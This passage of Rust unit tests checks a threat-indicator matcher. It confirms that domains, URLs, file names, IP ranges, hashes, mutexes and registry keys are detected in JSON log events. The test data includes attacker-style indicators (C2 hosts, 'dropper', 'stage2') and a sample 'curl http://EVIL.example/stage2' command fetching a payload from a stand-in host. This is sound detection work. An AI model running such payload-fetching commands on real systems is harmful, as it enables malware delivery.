        assert!(found(&s, serde_json::json!({"q": "http://evil.example/panel"})).is_empty());
        assert_eq!(
            found(
                &s,
                serde_json::json!({"q": "GET http://evil.example:8080/panel?id=1"})
            )
            .len(),
            1
        );
        assert_eq!(
            found(&s, serde_json::json!({"q": "see https://drop.example/"})).len(),
            1
        );
        assert!(
            found(&s, serde_json::json!({"q": "https://drop.example.org/"})).is_empty(),
            "another host that starts alike"
        );
        assert_eq!(
            found(
                &s,
                serde_json::json!({"q": "fetch http://[2001:db8::1]/x now"})
            )
            .len(),
            1,
            "a host the scan does not cut as one run still matches"
        );
        assert_eq!(
            found(&s, serde_json::json!({"a": "http://bob@mail.example/inbox", "b": "http://evil.example/stage2"})).len(),
            2
        );
    }

    #[test]
    fn names_without_a_dot_are_still_found() {
        let s = set(&["filename:dropper", "http://intranet/x", "evil.example"]);
        assert_eq!(
            found(&s, serde_json::json!({"p": "C:\\Temp\\DROPPER"})).len(),
            1
        );
        assert_eq!(
            found(&s, serde_json::json!({"u": "GET http://intranet/x"})).len(),
            1
        );
        let dotted = set(&["evil.example"]);
        assert!(!dotted.dotless);
        assert_eq!(
            found(&dotted, serde_json::json!({"q": "c2.evil.example"})).len(),
            1
        );
    }

    #[test]
    fn runs_are_filtered_by_their_last_label_only() {
        let long = format!("evil.{}", "x".repeat(70));
        let s = set(&[
            "evil.example",
            "bob@mail.example",
            "filename:Stage2.EXE",
            &format!("filename:{long}"),
            "c2.evil.frontpages",
        ]);
        // Every candidate of a run (whole, after `@`, after each dot) ends
        // with the run's last label, whatever its case.
        assert_eq!(
            found(&s, serde_json::json!({"a": "C2.Evil.EXAMPLE."})).len(),
            1
        );
        assert_eq!(
            found(&s, serde_json::json!({"a": "to BOB@Mail.Example"})).len(),
            1
        );
        assert_eq!(
            found(&s, serde_json::json!({"a": "C:\\Temp\\stage2.exe"})).len(),
            1
        );
        assert_eq!(
            found(&s, serde_json::json!({"a": "C2.EVIL.FrontPages"})).len(),
            1,
            "a label longer than eight letters"
        );
        assert_eq!(
            found(
                &s,
                serde_json::json!({"a": format!("a.{}", long.to_uppercase())})
            )
            .len(),
            1,
            "a label too long for the filter is looked up"
        );
        assert!(found(&s, serde_json::json!({"a": "evil.example.org"})).is_empty());
        assert!(found(&s, serde_json::json!({"a": "System.Management.Automation"})).is_empty());
    }

    #[test]
    fn overlapping_ranges_are_all_found() {
        let s = set(&[
            "10.0.0.0/8",
            "10.1.0.0/16",
            "10.200.0.0/16",
            "2001:db8::/32",
        ]);
        let mut hits = found(&s, serde_json::json!({"ip": "10.1.2.3"}));
        hits.sort();
        assert_eq!(hits, ["10.0.0.0/8@ip", "10.1.0.0/16@ip"]);
        assert_eq!(found(&s, serde_json::json!({"ip": "2001:db8::5"})).len(), 1);
        assert!(found(&s, serde_json::json!({"ip": "11.0.0.1"})).is_empty());
    }

    #[test]
    fn ipv6_addresses_are_found_among_other_colons() {
        let s = set(&["2001:db8::5", "fe80::/10", "10.1.2.3"]);
        let text = "12:30:01 C:\\x from [2001:db8::5]:443, then fe80::1:2 and ::ffff:10.1.2.3";
        let mut hits = found(&s, serde_json::json!({"m": text}));
        hits.sort();
        assert_eq!(hits, ["10.1.2.3@m", "2001:db8::5@m", "fe80::/10@m"]);
        assert!(found(&s, serde_json::json!({"m": "2001:db8::6 at 12:30:01"})).is_empty());
    }

    #[test]
    fn a_set_read_back_from_its_bytes_finds_the_same() {
        let lines = [
            "evil.example",
            "EVIL.example",
            "bob@mail.example",
            "filename:dropper",
            "hxxp://evil[.]example/stage2",
            "185.61.137.4",
            "2001:db8::5",
            "10.66.0.0/16",
            "10.0.0.0/8",
            "a196c6b8ffcb97ffb276d04f354696e2391311db3841ae16c8c9f56f36a38e92",
            r"mutex:Global\WG",
            r"HKEY_LOCAL_MACHINE\SOFTWARE\Run\x",
        ];
        let built = set(&lines);
        let bytes = built.to_bytes();
        let read = IndicatorSet::from_bytes(&bytes).expect("reads");
        assert_eq!(read.to_bytes(), bytes, "nothing lost");
        let event = serde_json::json!({
            "a": "curl http://EVIL.example/stage2 from 10.66.1.1 and 185.61.137.4",
            "b": ["to bob@mail.example", "C:\\Temp\\DROPPER", "[2001:db8::5]:443"],
            "c": "SHA256=A196C6B8FFCB97FFB276D04F354696E2391311DB3841AE16C8C9F56F36A38E92",
            "d": "Global\\WG HKLM\\SOFTWARE\\Run\\x",
        });
        let mut hits = found(&read, event.clone());
        hits.sort();
        let mut expected = found(&built, event);
        expected.sort();
        assert_eq!(hits, expected);
        assert_eq!(hits.len(), lines.len(), "{hits:?}");

        for cut in 0..bytes.len() {
            assert!(
                IndicatorSet::from_bytes(&bytes[..cut]).is_none(),
                "cut at {cut}"
            );
        }
        // Another build's keys, or a chain that runs back (it would loop).
        let mut other = bytes.clone();
        other[CACHE_MAGIC.len()] ^= 1;
        assert!(IndicatorSet::from_bytes(&other).is_none());
        let backward = set(&["a.example", "A.example"]);
        let mut bytes = backward.to_bytes();
        let same_at = bytes.len() - (2 * 4 + 8 + 8 + 1);
        assert_eq!(bytes[same_at..same_at + 4], 1u32.to_le_bytes());
        bytes[same_at..same_at + 4].copy_from_slice(&0u32.to_le_bytes());
        assert!(IndicatorSet::from_bytes(&bytes).is_none());
        assert!(IndicatorSet::from_bytes(&IndicatorSet::new(Vec::new()).to_bytes()).is_some());
    }
}
